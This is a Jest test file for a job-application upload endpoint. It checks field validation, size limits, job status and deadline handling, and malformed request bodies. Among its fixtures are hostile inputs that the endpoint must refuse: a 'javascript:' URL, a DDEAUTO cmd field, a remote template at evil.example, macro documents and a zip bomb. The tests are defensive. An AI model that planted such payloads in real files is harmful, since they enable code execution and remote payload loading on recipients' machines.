import { closedMeanwhile } from '@/lib/content/en/applying';
import { rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { RESUME_MAX_BYTES } from '@/lib/vocabulary/applications';
import { MISSING_FIELDS_MESSAGE, WRONG_FIELDS_MESSAGE } from '@/lib/content/en/uploads';
import { docBytes, docxBytes, exeBytes, htmlBytes, pdfOfSize, pdfWithText, xlsBytes } from '@/lib/testing/documents';
import { applicationFields, job } from '@/lib/testing/fixtures';
import { call, db, filesOnDisk, requestTo, until, uploadsDir, type CallOptions } from '@/lib/testing/harness';
import { field, wordBinary, wordPackage } from '@/lib/testing/word-documents';
import { multipartBody, type FilePart } from '@/lib/testing/multipart';
import * as applications from './route';
import { OFFICE_STATUSES } from '@/lib/vocabulary/jobs';

const PDF = pdfWithText('Curriculum vitae');
let jobId: number;
beforeAll(async () => {
  jobId = (await job()).id;
});

const resume = (fields: Partial<FilePart> = {}): FilePart => ({
  field: 'resume',
  name: 'cv.pdf',
  bytes: PDF,
  ...fields,
});
const apply = (
  fields = applicationFields(),
  files: FilePart[] = [resume()],
  options: CallOptions = {},
  path = `/api/direct-applications.php?job_id=${jobId}`,
) => call(applications, 'POST', path, { multipart: { fields, files }, ...options });
const traces = async () => [
  await db().application.count(),
  await db().storedFile.count(),
  filesOnDisk().stored.length,
  filesOnDisk().incoming.length,
];

async function startAfresh(): Promise<void> {
  await db().application.deleteMany();
  await db().storedFile.deleteMany();
  rmSync(join(uploadsDir, 'files'), { recursive: true });
}

/** Checks that no row, file or mail was stored. @returns status, code, message and field names of the refusal */
async function refusal(answering: ReturnType<typeof apply>) {
  const { status, body } = await answering;
  expect({ traces: await traces() }).toEqual({ traces: [0, 0, 0, 0] });
  return { status, code: body.code, message: body.message, fields: Object.keys(body.errors ?? {}).sort() };
}

describe('missing or invalid fields of an application', () => {
  test.each(['applicant_name', 'email', 'phone'])(
    'refuses an application without %s, with an error on that field',
    async (name) => {
      const expected = {
        status: 422,
        code: 'validation_failed',
        message: 'Please fill out all required fields.',
        fields: [name],
      };
      expect(await refusal(apply({ ...applicationFields(), [name]: '  ' }))).toEqual(expected);
      const { [name]: _, ...rest } = applicationFields();
      expect(await refusal(apply(rest))).toEqual(expected);
    },
  );

  test('refuses all invalid text fields of an application at once, under the field names that were sent', async () => {
    expect(
      (
        await refusal(
          apply({ applicant_email: 'nonsense', linkedin: 'javascript:alert(1)', cover_letter: 'x'.repeat(10_001) }),
        )
      ).fields,
    ).toEqual(['applicant_email', 'applicant_name', 'cover_letter', 'linkedin', 'phone']);
  });

  test.each<[string, FilePart[]]>([
    ['no file', []],
    ['an empty file input', [resume({ name: '', bytes: Buffer.alloc(0) })]],
    ['a file in a field of another name', [resume({ field: 'photo' })]],
  ])('an application with %s gets an error on the résumé field', async (_, files) => {
    expect(await refusal(apply(undefined, files))).toEqual({
      status: 422,
      code: 'validation_failed',
      message: 'Please upload your resume.',
      fields: ['resume'],
    });
  });

  test('an application with too long a text gets the message for invalid fields', async () => {
    expect(await refusal(apply({ ...applicationFields(), cover_letter: 'x'.repeat(10_001) }))).toMatchObject({
      status: 422,
      message: WRONG_FIELDS_MESSAGE,
      fields: ['cover_letter'],
    });
  });

  test('reports a missing résumé along with missing texts, unless a stored document is named', async () => {
    const { fields, message } = await refusal(apply({ phone: '' }, []));
    expect([fields, message]).toEqual([['applicant_name', 'email', 'phone', 'resume'], MISSING_FIELDS_MESSAGE]);
    expect((await refusal(apply({ resume_from: 'cv-1' }, []))).fields).not.toContain('resume');
  });

  test('refuses an empty résumé file with a message that it is empty', async () => {
    expect(await refusal(apply(undefined, [resume({ bytes: Buffer.alloc(0) })]))).toMatchObject({
      status: 422,
      message: expect.stringContaining('empty'),
      fields: ['resume'],
    });
  });
});

test.each<[string, FilePart]>([
  ['a program named .pdf', resume({ bytes: exeBytes() })],
  ['a web page named .doc', resume({ bytes: htmlBytes(), name: 'cv.doc', type: 'application/msword' })],
  ['a spreadsheet named .doc', resume({ bytes: xlsBytes(), name: 'cv.doc' })],
  ['a DOCX with macros', resume({ bytes: docxBytes({ macros: true }), name: 'cv.docx' })],
  ['a DOC with macros', resume({ bytes: docBytes({ macros: true }), name: 'cv.doc' })],
  ['a DOCX that unpacks to a thousand times its size', resume({ bytes: docxBytes({ bomb: true }), name: 'cv.docx' })],
  ['a PDF with another extension', resume({ name: 'cv.html' })],
  ['a PDF without extension', resume({ name: 'pdf' })],
  ['a PDF named .docx', resume({ name: 'cv.docx' })],
])('refuses %s as a résumé because of its content or extension', async (_, file) => {
  expect(await refusal(apply(undefined, [file]))).toMatchObject({
    status: 415,
    code: 'unsupported_file_type',
    message: expect.stringMatching(
      /^(?:Please upload a PDF, DOC or DOCX file\.|"cv\.\w+" is not a (?:PDF|plain Word document) inside\.)/,
    ),
  });
});

test.each<[string, string, FilePart]>([
  ['a DOCX with DDE', 'fields', resume({ bytes: wordPackage({ body: field('DDEAUTO c:\\\\cmd') }), name: 'cv.docx' })],
  [
    'a DOCX whose template is fetched from the web',
    'links',
    resume({
      bytes: wordPackage({
        relations: {
          'word/settings.xml': [{ type: 'attachedTemplate', target: 'https://evil.example/t.dotm', mode: 'External' }],
        },
      }),
      name: 'cv.docx',
    }),
  ],
  [
    'a DOC with an embedded object',
    'objects',
    resume({
      bytes: wordBinary({ parts: [{ name: 'ObjectPool', members: [{ name: '_1', members: [] }] }] }),
      name: 'cv.doc',
    }),
  ],
])('refuses %s with a hint to save as PDF, and logs only the kind of active content', async (_, reason, file) => {
  const written: string[] = [];
  const log = jest.spyOn(process.stdout, 'write').mockImplementation((line) => written.push(String(line)) > 0);
  const answer = await refusal(apply(undefined, [file]));
  log.mockRestore();
  expect(answer).toMatchObject({
    status: 415,
    code: 'unsupported_file_type',
    message: expect.stringMatching(/^Please upload a PDF, DOC or DOCX file\. .*macros.* Save it as a PDF/),
  });
  const line = written.find((each) => each.includes('file.refused')) ?? '{}';
  expect(JSON.parse(line)).toMatchObject({
    level: 'security',
    event: 'file.refused',
    reason,
    path: '/api/direct-applications.php',
  });
  expect(line).not.toMatch(/evil|cv\.doc|alex/i);
});

describe.each([
  ['with Content-Length', false],
  ['without Content-Length', true],
])('a résumé file sent %s', (_, chunked) => {
  test('refuses a résumé of 10 MB and one byte', async () => {
    const files = [resume({ bytes: pdfOfSize(RESUME_MAX_BYTES + 1) })];
    expect(await refusal(apply(undefined, files, { chunked }))).toMatchObject({
      status: 413,
      code: 'file_too_large',
      message: 'The file must be no larger than 10 MB.',
    });
  });

  test('refuses a résumé of 20 MB', async () => {
    const files = [resume({ bytes: pdfOfSize(2 * RESUME_MAX_BYTES) })];
    expect((await refusal(apply(undefined, files, { chunked }))).status).toBe(413);
  });

  test('accepts résumés of 10 MB and of one byte less', async () => {
    for (const size of [RESUME_MAX_BYTES - 1, RESUME_MAX_BYTES]) {
      const { status, body } = await apply(undefined, [resume({ bytes: pdfOfSize(size) })], { chunked });
      expect(status).toBe(201);
      const { file } = await db().application.findUniqueOrThrow({
        where: { id: Number(body.data.id) },
        include: { file: true },
      });
      expect(file.sizeBytes).toBe(size);
    }
    await startAfresh();
  });
});

test('refuses an application with 300 KiB of text or more than 100 fields', async () => {
  expect((await refusal(apply(applicationFields({ cover_letter: 'x'.repeat(300 * 1024) })))).status).toBe(413);
  const many = Object.fromEntries(Array.from({ length: 100 }, (_, index) => [`field${index}`, 'x']));
  expect((await refusal(apply({ ...many, ...applicationFields() }))).status).toBe(413);
});

test.each(['pending', 'rejected', 'closed', 'deleted', ...OFFICE_STATUSES])(
  'refuses an application for a job that is %s',
  async (status) => {
    const { id } = await job({ status });
    expect(await refusal(apply(undefined, undefined, {}, `/api/direct-applications.php?job_id=${id}`))).toMatchObject({
      status: 404,
      code: 'not_found',
      message: status === 'closed' ? closedMeanwhile.message : 'Job Not Found',
    });
  },
);

test('accepts applications until the end of the deadline day, and refuses later ones and unknown jobs', async () => {
  const today = new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/London' }).format(new Date());
  const { id: past } = await job({ deadline: '2001-01-01' });
  for (const id of [past, 999_999])
    expect((await refusal(apply(undefined, undefined, {}, `/api/direct-applications.php?job_id=${id}`))).status).toBe(
      404,
    );
  for (const id of ['', 'x', '0', '-7'])
    expect((await refusal(apply(undefined, undefined, {}, `/api/direct-applications.php?job_id=${id}`))).status).toBe(
      400,
    );
  expect((await refusal(apply(undefined, undefined, {}, '/api/direct-applications.php'))).status).toBe(400);
  const { id: lastDay } = await job({ deadline: today });
  expect((await apply(undefined, undefined, {}, `/api/direct-applications.php?job_id=${lastDay}`)).status).toBe(201);
  await startAfresh();
});

test('refuses an application with two files and stores neither file', async () => {
  expect((await refusal(apply(undefined, [resume(), resume({ field: 'cv_file' })]))).status).toBe(400);
});

describe('unreadable request bodies of applications', () => {
  const send = (request: Request) => call({ POST: () => applications.POST(request) }, 'POST', '/');
  const url = `/api/direct-applications.php?job_id=`;

  test('refuses an application that is not multipart', async () => {
    for (const options of [{ json: applicationFields() }, { form: applicationFields() }, {}]) {
      expect(await refusal(call(applications, 'POST', url + jobId, options))).toMatchObject({
        status: 400,
        code: 'bad_request',
      });
    }
  });

  test('refuses an application whose body is truncated', async () => {
    const { body, contentType } = multipartBody({
      fields: applicationFields(),
      files: [resume({ bytes: pdfOfSize(500_000) })],
    });
    for (const part of [100, 400, 300_000, body.length - 10]) {
      const request = requestTo('POST', url + jobId, {
        raw: body.subarray(0, part),
        headers: { 'Content-Type': contentType },
      });
      expect(await refusal(send(request))).toMatchObject({ status: 400, code: 'bad_request' });
    }
  });

  test('an application whose sender disconnects leaves no row or file', async () => {
    const { body, contentType } = multipartBody({
      fields: applicationFields(),
      files: [resume({ bytes: pdfOfSize(2_000_000) })],
    });
    let sent = 0;
    const stream = new ReadableStream<Uint8Array>({
      async pull(controller) {
        if (sent < 1_000_000) {
          controller.enqueue(body.subarray(sent, sent + 65_536));
          sent += 65_536;
          return;
        }
        // Fails after part of the file is in the incoming folder, so that there is a file to delete.
        await until(() => filesOnDisk().incoming.length === 1);
        controller.error(new Error('aborted'));
      },
    });
    const init = { method: 'POST', headers: { 'Content-Type': contentType }, body: stream, duplex: 'half' as const };
    expect((await refusal(send(new Request(`http://localhost:3000${url}${jobId}`, init)))).status).toBe(400);
  });

  test('an application that cannot be written to disk answers 503, not a 4xx status', async () => {
    rmSync(join(uploadsDir, 'incoming'), { recursive: true, force: true });
    writeFileSync(join(uploadsDir, 'incoming'), 'in the way');
    const quiet = jest.spyOn(process.stderr, 'write').mockReturnValue(true);
    const { status, body, headers } = await apply();
    expect([status, body.code, headers.get('retry-after')]).toEqual([503, 'busy', '1']);
    quiet.mockRestore();
    rmSync(join(uploadsDir, 'incoming'));
    expect((await apply()).status).toBe(201);
    await startAfresh();
  });
});
